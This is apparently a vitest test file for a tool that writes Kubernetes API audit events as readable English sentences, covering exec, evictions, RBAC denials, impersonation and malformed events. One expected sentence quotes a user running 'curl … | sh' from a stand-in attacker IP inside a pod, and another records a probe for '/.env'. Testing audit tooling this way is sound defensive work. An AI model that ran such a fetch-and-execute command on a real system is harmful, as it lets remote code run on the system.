import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { describeEvent } from './describe-event.ts';
import { type Part, sentenceText } from './part.ts';
import { type AuditEvent, readEvent } from './read-event.ts';

const recorded = gunzipSync(readFileSync('tests/fixtures/one-of-each.ndjson.gz')).toString().trim().split('\n');
const events = recorded.map((line) => readEvent(JSON.parse(line)));

interface Wanted {
  readonly verb: string;
  /** Resource and subresource, or the path. */
  readonly what: string;
  readonly code: number | null;
  readonly user: string;
  readonly stage?: string;
}

function whatOf({ object, requestURI }: AuditEvent): string {
  if (object === null) return requestURI.split('?')[0] ?? '';
  return object.subresource === '' ? object.resource : `${object.resource}/${object.subresource}`;
}

function find({ verb, what, code, user, stage = 'ResponseComplete' }: Wanted): AuditEvent {
  const found = events.find(
    (event) => event.verb === verb && whatOf(event) === what && event.code === code && event.user.name === user && event.stage === stage,
  );
  if (found === undefined) throw new Error(`the fixture has no ${verb} of ${what} with ${code}`);
  return found;
}

const table: readonly (readonly [Wanted, string])[] = [
  [
    { verb: 'delete', what: 'clusterrolebindings', code: 200, user: 'kubernetes-admin' },
    'kubernetes-admin deleted clusterrolebinding anon-1 in cluster c from 127.0.0.1 with kubectl 1.36.4; allowed as a member of system:masters.',
  ],
  [
    { verb: 'create', what: 'namespaces', code: 201, user: 'system:apiserver' },
    'apiserver created namespace kube-system in cluster c from 127.0.0.1 with kube-apiserver 1.36.2; allowed as a member of system:masters.',
  ],
  [
    { verb: 'get', what: 'configmaps', code: 200, user: 'system:kube-scheduler' },
    'kube-scheduler read configmap kube-system/extension-apiserver-authentication in cluster c from 127.0.0.1 with kube-scheduler 1.36.2; allowed by RoleBinding system::extension-apiserver-authentication-reader in kube-system of Role extension-apiserver-authentication-reader to User system:kube-scheduler.',
  ],
  [
    { verb: 'update', what: 'leases', code: 200, user: 'system:kube-controller-manager' },
    'kube-controller-manager updated lease kube-system/kube-controller-manager in cluster c from 127.0.0.1 with kube-controller-manager 1.36.2; allowed by ClusterRoleBinding system:kube-controller-manager of ClusterRole system:kube-controller-manager to User system:kube-controller-manager.',
  ],
  [
    { verb: 'patch', what: 'deployments/scale', code: 200, user: 'alice@example.com' },
    'alice@example.com scaled deployment dev/web-1 to 2 replicas in cluster c from 127.0.0.1 with kubectl 1.36.4; allowed by RoleBinding dev-edit in dev of ClusterRole edit to Group dev.',
  ],
  [
    { verb: 'get', what: 'deployments/scale', code: 200, user: 'system:serviceaccount:kube-system:horizontal-pod-autoscaler' },
    'Service account kube-system/horizontal-pod-autoscaler read the scale of deployment prod/api-1 in cluster c from 127.0.0.1 with kube-controller-manager 1.36.2; allowed by ClusterRoleBinding system:controller:horizontal-pod-autoscaler of ClusterRole system:controller:horizontal-pod-autoscaler to ServiceAccount kube-system/horizontal-pod-autoscaler.',
  ],
  [
    { verb: 'create', what: 'pods/binding', code: 201, user: 'system:kube-scheduler' },
    'kube-scheduler bound pod dev/web-1-6dc8f87d8c-gxr6n to node node-1 in cluster c from 127.0.0.1 with kube-scheduler 1.36.2; allowed by ClusterRoleBinding system:kube-scheduler of ClusterRole system:kube-scheduler to User system:kube-scheduler.',
  ],
  [
    { verb: 'create', what: 'serviceaccounts/token', code: 201, user: 'system:kube-controller-manager' },
    'kube-controller-manager requested a token for serviceaccount kube-system/resourcequota-controller in cluster c from 127.0.0.1 with kube-controller-manager 1.36.2; allowed by ClusterRoleBinding system:kube-controller-manager of ClusterRole system:kube-controller-manager to User system:kube-controller-manager.',
  ],
  [
    { verb: 'create', what: 'pods/eviction', code: 201, user: 'carol' },
    'carol evicted pod prod/api-1-588f577c54-2cdqt in cluster c from 127.0.0.1 with curl 7.88.1; allowed by RoleBinding ops-admin in prod of ClusterRole admin to Group ops.',
  ],
  [
    { verb: 'create', what: 'pods/eviction', code: 429, user: 'carol' },
    "carol tried to evict pod prod/api-1-588f577c54-57wgq in cluster c from 127.0.0.1 with curl 7.88.1; too many requests (429 TooManyRequests): Cannot evict pod as it would violate the pod's disruption budget.",
  ],
  [
    { verb: 'update', what: 'certificatesigningrequests/approval', code: 200, user: 'kubernetes-admin' },
    'kubernetes-admin approved certificatesigningrequest csr2-1 in cluster c from 127.0.0.1 with kubectl 1.36.4; allowed as a member of system:masters.',
  ],
  [
    { verb: 'update', what: 'namespaces/finalize', code: 200, user: 'kubernetes-admin' },
    'kubernetes-admin finalized namespace dev in cluster c from 127.0.0.1 with curl 7.88.1; allowed as a member of system:masters.',
  ],
  [
    { verb: 'get', what: 'pods/exec', code: 101, user: 'mallory' },
    'mallory ran sh -c curl -s http://203.0.113.66/x.sh | sh in container c of pod dev/priv-1 in cluster c from 127.0.0.1 with kubectl 1.36.4; allowed by RoleBinding dev-edit in dev of ClusterRole edit to Group dev.',
  ],
  [
    { verb: 'create', what: 'pods/exec', code: 101, user: 'mallory' },
    'mallory ran id -a in container c of pod dev/priv-1 in cluster c from 127.0.0.1 with curl 7.88.1; allowed by RoleBinding dev-edit in dev of ClusterRole edit to Group dev.',
  ],
  [
    { verb: 'get', what: 'pods/attach', code: 101, user: 'carol' },
    'carol attached to container api of pod prod/api-1-588f577c54-2cdqt in cluster c from 127.0.0.1 with kubectl 1.32.4; allowed by RoleBinding ops-admin in prod of ClusterRole admin to Group ops.',
  ],
  [
    { verb: 'create', what: 'pods/portforward', code: 101, user: 'alice@example.com' },
    'alice@example.com forwarded ports to pod dev/web-601-67f54bc6c-ksj64 in cluster c from 127.0.0.1 with kubectl 1.36.4; allowed by RoleBinding dev-edit in dev of ClusterRole edit to Group dev.',
  ],
  [
    { verb: 'get', what: 'pods/log', code: 200, user: 'alice@example.com' },
    'alice@example.com read the log of container web of pod dev/web-1-6cdfdb596-hh686 in cluster c from 127.0.0.1 with kubectl 1.36.4; allowed by RoleBinding dev-edit in dev of ClusterRole edit to Group dev.',
  ],
  [
    { verb: 'patch', what: 'pods/ephemeralcontainers', code: 403, user: 'alice@example.com' },
    'alice@example.com tried to add a debug container to pod dev/web-1-6cdfdb596-hh686 in cluster c from 127.0.0.1 with kubectl 1.36.4; refused (403 Forbidden): pods "web-1-6cdfdb596-hh686" is forbidden: User "alice@example.com" cannot patch resource "pods/ephemeralcontainers" in API group "" in the namespace "dev".',
  ],
  [
    { verb: 'get', what: 'nodes/proxy', code: 400, user: 'kubernetes-admin' },
    'kubernetes-admin tried to send a request through the API server to node node-1 in cluster c from 127.0.0.1 with kubectl 1.36.4; the request was malformed (400 BadRequest): address not allowed.',
  ],
  [
    { verb: 'update', what: 'resourcequotas/status', code: 200, user: 'system:serviceaccount:kube-system:resourcequota-controller' },
    'Service account kube-system/resourcequota-controller updated the status of resourcequota locked/q in cluster c from 127.0.0.1 with kube-controller-manager 1.36.2; allowed by ClusterRoleBinding system:controller:resourcequota-controller of ClusterRole system:controller:resourcequota-controller to ServiceAccount kube-system/resourcequota-controller.',
  ],
  [
    { verb: 'create', what: 'selfsubjectaccessreviews', code: 201, user: 'eve' },
    'eve asked whether they may do anything to anything (they may not) in cluster c from 127.0.0.1 with kubectl 1.36.4; allowed by ClusterRoleBinding system:basic-user of ClusterRole system:basic-user to Group system:authenticated.',
  ],
  [
    { verb: 'create', what: 'selfsubjectrulesreviews', code: 201, user: 'eve' },
    'eve asked what they may do in cluster c from 127.0.0.1 with kubectl 1.36.4; allowed by ClusterRoleBinding system:basic-user of ClusterRole system:basic-user to Group system:authenticated.',
  ],
  [
    { verb: 'create', what: 'selfsubjectreviews', code: 201, user: 'bob' },
    'bob asked who they are in cluster c from 127.0.0.1 with kubectl 1.36.4; allowed by ClusterRoleBinding system:basic-user of ClusterRole system:basic-user to Group system:authenticated.',
  ],
  [
    { verb: 'create', what: 'tokenreviews', code: 201, user: 'system:serviceaccount:dev:bd-1' },
    'Service account dev/bd-1 asked whose a token is in cluster c from 127.0.0.1 with curl 7.88.1; allowed by ClusterRoleBinding bd-1 of ClusterRole cluster-admin to ServiceAccount dev/bd-1.',
  ],
  [
    { verb: 'list', what: 'pods', code: 401, user: '', stage: 'ResponseStarted' },
    'Somebody who was not authenticated tried to list pods in all namespaces in cluster c from 127.0.0.1 with curl 7.88.1; the credentials were not accepted (401 Unauthorized).',
  ],
  [
    { verb: 'list', what: 'pods', code: 403, user: 'eve' },
    'eve tried to list pods in all namespaces in cluster c from 127.0.0.1 with kubectl 1.36.4; refused (403 Forbidden): pods is forbidden: User "eve" cannot list resource "pods" in API group "" at the cluster scope.',
  ],
  [
    { verb: 'list', what: 'nodes', code: 200, user: 'carol' },
    'carol (as system:serviceaccount:kube-system:default) listed nodes in cluster c from 127.0.0.1 with kubectl 1.32.4; allowed as a member of system:masters.',
  ],
  [
    { verb: 'list', what: 'pods', code: 403, user: 'bob' },
    'bob (as alice@example.com, constrained by impersonate:user-info) tried to list pods in namespace dev in cluster c from 127.0.0.1 with kubectl 1.36.4; refused (403 Forbidden): pods is forbidden: User "alice@example.com" cannot list resource "pods" in API group "" in the namespace "dev".',
  ],
  [
    { verb: 'watch', what: 'pods', code: 200, user: 'bob' },
    'bob watched pods in all namespaces in cluster c from 127.0.0.1 with kubectl 1.36.4; allowed by ClusterRoleBinding viewers-view of ClusterRole view to Group viewers.',
  ],
  [
    { verb: 'list', what: 'configmaps', code: 200, user: 'system:kube-scheduler' },
    'kube-scheduler listed configmap kube-system/extension-apiserver-authentication in cluster c from 127.0.0.1 with kube-scheduler; allowed by RoleBinding system::extension-apiserver-authentication-reader in kube-system of Role extension-apiserver-authentication-reader to User system:kube-scheduler.',
  ],
  [
    { verb: 'deletecollection', what: 'configmaps', code: 200, user: 'kubernetes-admin' },
    'kubernetes-admin deleted every configmap labelled bulk=1 in namespace dev in cluster c from 127.0.0.1 with curl 7.88.1; allowed as a member of system:masters.',
  ],
  [
    { verb: 'patch', what: 'configmaps', code: 201, user: 'alice@example.com' },
    'alice@example.com created configmap dev/ssa-1 in cluster c from 127.0.0.1 with kubectl 1.36.4; allowed by RoleBinding dev-edit in dev of ClusterRole edit to Group dev.',
  ],
  [
    { verb: 'patch', what: 'configmaps', code: 409, user: 'alice@example.com' },
    'alice@example.com tried to patch configmap dev/ssa-1 in cluster c from 127.0.0.1 with kubectl 1.36.4; it collided with another change (409 Conflict): Apply failed with 1 conflict: conflict with "alice-tool": .data.a.',
  ],
  [
    { verb: 'create', what: 'configmaps', code: 409, user: 'kubernetes-admin' },
    'kubernetes-admin tried to create configmap dev/csa-1 in cluster c from 127.0.0.1 with kubectl 1.36.4; it exists already (409): configmaps "csa-1" already exists.',
  ],
  [
    { verb: 'create', what: 'deployments', code: 422, user: 'carol' },
    "carol tried to create deployment prod/bad-1 in cluster c from 127.0.0.1 with kubectl 1.32.4; the object was not valid (422 Invalid): deployments.apps \"bad-1\" is forbidden: ValidatingAdmissionPolicy 'no-latest.example.com' with binding 'no-latest-deny' denied request: no :latest images.",
  ],
  [
    { verb: 'create', what: 'leases', code: 404, user: 'system:apiserver' },
    'apiserver tried to create lease kube-system/apiserver-wlv32tlttr4jl3gtroqexyxapa in cluster c from 127.0.0.1 with kube-apiserver 1.36.2; what it needs is not there (404 NotFound): namespaces "kube-system" not found.',
  ],
  [
    { verb: 'create', what: 'secrets', code: 500, user: 'ci-deployer' },
    'ci-deployer tried to create secret staging/wh-1 in cluster c from 127.0.0.1 with kubectl 1.32.4; the API server failed (500 InternalError): Internal error occurred: failed calling webhook "val.example.com": failed to call webhook: Post "https://127.0.0.1:9/validate?timeout=1s": dial tcp 127.0.0.1:9: connect: connection refused.',
  ],
  [
    { verb: 'list', what: 'pods', code: 429, user: 'eve' },
    'eve tried to list pods in all namespaces in cluster c from 127.0.0.1 with curl 7.88.1; too many requests (429).',
  ],
  [
    { verb: 'get', what: '/.env', code: 403, user: 'eve' },
    'eve tried to read /.env in cluster c from 127.0.0.1 with curl 7.88.1; refused (403 Forbidden): forbidden: User "eve" cannot get path "/.env".',
  ],
  [
    { verb: 'get', what: '/readyz', code: 500, user: 'kubernetes-admin' },
    'kubernetes-admin tried to read /readyz in cluster c from 127.0.0.1 with curl 7.88.1; the API server failed (500).',
  ],
  [
    { verb: 'get', what: '/version', code: 200, user: 'carol' },
    'carol (as bob) read /version in cluster c from 127.0.0.1 with kubectl-dispatcher 1.0; allowed by ClusterRoleBinding system:discovery of ClusterRole system:discovery to Group system:authenticated.',
  ],
  [
    { verb: 'get', what: 'b/x\ny', code: 403, user: 'eve' },
    'eve tried to read the x\ny of b a/pods in cluster c from 127.0.0.1 with curl 7.88.1; refused (403 Forbidden): b "pods" is forbidden: User "eve" cannot get resource "b/x\\ny" in API group "" in the namespace "a".',
  ],
  [
    { verb: 'create', what: 'serviceaccounts/token', code: 403, user: 'system:node:node-1' },
    'Node node-1 tried to request a token for serviceaccount dev/default in cluster c from 127.0.0.1 with kubelet 1.36.2; refused (403 Forbidden): serviceaccounts "default" is forbidden: audience "https://kubernetes.default.svc.cluster.local" not found in pod spec volume, system:node:node-1 is not authorized to request tokens for this audience.',
  ],
  [
    { verb: '', what: 'pods', code: 405, user: 'kubernetes-admin' },
    'kubernetes-admin tried to send a request for a pod in cluster c from 127.0.0.1 with curl 7.88.1; that cannot be done to it (405 MethodNotAllowed): the server does not allow this method on the requested resource.',
  ],
  [
    { verb: 'create', what: 'pods', code: null, user: 'system:serviceaccount:kube-system:replicaset-controller', stage: 'RequestReceived' },
    'Service account kube-system/replicaset-controller asked to create a pod in namespace dev in cluster c from 127.0.0.1 with kube-controller-manager 1.36.2; not answered when this was recorded.',
  ],
  [
    { verb: 'create', what: 'tokenreviews', code: null, user: 'system:serviceaccount:dev:bd-1', stage: 'RequestReceived' },
    'Service account dev/bd-1 asked whose a token is in cluster c from 127.0.0.1 with curl 7.88.1; not answered when this was recorded.',
  ],
];

describe('real events', () => {
  it.each(table)('%j', (wanted, sentence) => {
    expect(sentenceText(describeEvent(find(wanted), { cluster: 'c' }))).toBe(sentence);
  });

  it('says something of every shape, and what it links to names fields of the event', () => {
    expect(events.length).toBeGreaterThan(2000);
    for (const event of events) {
      const parts = describeEvent(event);
      expect(
        parts.every(({ text }) => text !== ''),
        sentenceText(parts),
      ).toBe(true);
      expect(rolesOf(parts)).toEqual(expect.arrayContaining(['actor', 'verb', 'address', 'client']));
    }
  });
});

const rolesOf = (parts: readonly Part[]) => parts.map(({ role }) => role);
const say = (event: object) => sentenceText(describeEvent(readEvent(event)));

describe('what recordings lack', () => {
  const pod = { resource: 'pods', namespace: 'dev', name: 'web', apiVersion: 'v1' };
  const done = { stage: 'ResponseComplete', user: { username: 'alice' }, responseStatus: { code: 200 } };

  it('separates what is proven of the addresses from what was claimed', () => {
    const event = { ...done, verb: 'get', objectRef: pod, sourceIPs: ['203.0.113.9', '10.0.0.1'] };
    expect(say(event)).toBe('alice read pod dev/web from 10.0.0.1 (claimed 203.0.113.9).');
    const many = { ...event, sourceIPs: ['1.1.1.1', '2.2.2.2', '3.3.3.3', '4.4.4.4', '5.5.5.5', '10.0.0.1'] };
    expect(say(many)).toContain('from 10.0.0.1 (claimed 1.1.1.1, 2.2.2.2, 3.3.3.3 and 2 more)');
  });

  it('tells a dry run, by the address and by the options of a delete', () => {
    expect(say({ ...done, verb: 'create', objectRef: pod, requestURI: '/api/v1/namespaces/dev/pods?dryRun=All' })).toContain('a dry run');
    expect(say({ ...done, verb: 'delete', objectRef: pod, requestObject: { dryRun: ['All'] } })).toContain('a dry run');
    expect(say({ ...done, verb: 'update', objectRef: pod, requestObject: { dryRun: ['All'] } })).not.toContain('a dry run');
  });

  it('names the pod of a service account, and what the name of a new object begins with', () => {
    const user = { username: 'system:serviceaccount:dev:ci', extra: { 'authentication.kubernetes.io/pod-name': ['ci-0'] } };
    const event = { ...done, verb: 'create', user, objectRef: { resource: 'jobs', namespace: 'dev', apiGroup: 'batch' } };
    expect(say({ ...event, requestObject: { metadata: { generateName: 'run-' } } })).toBe(
      'Service account dev/ci (in pod ci-0) created a job in namespace dev named run-….',
    );
    expect(say({ ...event, responseObject: { kind: 'Job', metadata: { name: 'run-x1' } } })).toContain('created job dev/run-x1');
  });

  it('says that nobody vouches for an anonymous client, and that a server panicked', () => {
    expect(say({ ...done, user: { username: 'system:anonymous' }, verb: 'get', requestURI: '/version' })).toBe(
      'An anonymous client read /version.',
    );
    expect(say({ ...done, stage: 'Panic', verb: 'get', objectRef: pod })).toContain('tried to read pod dev/web; the API server panicked');
  });

  it.each([
    [null],
    [[]],
    ['text'],
    [7],
    [{}],
    [{ user: 'alice', objectRef: [], sourceIPs: 'x', annotations: 3, responseStatus: { code: 'x' } }],
  ])('takes %j for an event that says nothing', (event) => {
    expect(sentenceText(describeEvent(readEvent(event)))).toMatch(/^Somebody who was not authenticated asked to /);
  });
});
